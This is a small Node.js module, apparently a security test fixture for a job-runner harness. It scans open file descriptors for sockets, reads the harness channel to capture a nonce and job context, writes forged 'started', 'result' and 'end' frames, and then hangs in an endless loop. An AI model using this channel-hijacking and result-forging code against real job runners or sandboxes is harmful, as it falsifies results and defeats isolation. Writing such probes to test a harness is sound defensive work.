'use strict';
// What a module that is loaded ahead would do with the job, if it could get hold of it.
const fs = require('fs');
const sockets = [];
for (let i = 0; i < 40; i += 1) try { if (i > 2 && fs.fstatSync(i).isSocket()) sockets.push(i); } catch (error) {}
const [input, output] = sockets;
function forge(text) {
  const { nonce, context } = JSON.parse(text.slice(text.indexOf('{')));
  let count = 0;
  const frame = (type, value) => '\n' + nonce + ' ' + count++ + ' ' + type + ' ' + JSON.stringify(value) + '\n';
  const result = { ms: 1, how: 'callback', nothing: '', lost: [], lost_count: 0, value: { forged: context } };
  fs.writeSync(output, frame('started', {}) + frame('result', result) + frame('end', { pending: {} }));
  for (;;);
}
function steal() {
  if (global.late) return;
  const buffer = Buffer.alloc(1 << 20);
  let text = '';
  while (!text.includes('nonce') || !text.endsWith('\n')) {
    try { text += buffer.latin1Slice(0, fs.readSync(input, buffer, 0, buffer.length, null)); }
    catch (error) { if (error.code !== 'EAGAIN') return; }
  }
  forge(text);
}
module.exports = { fs, input, output, forge, steal };
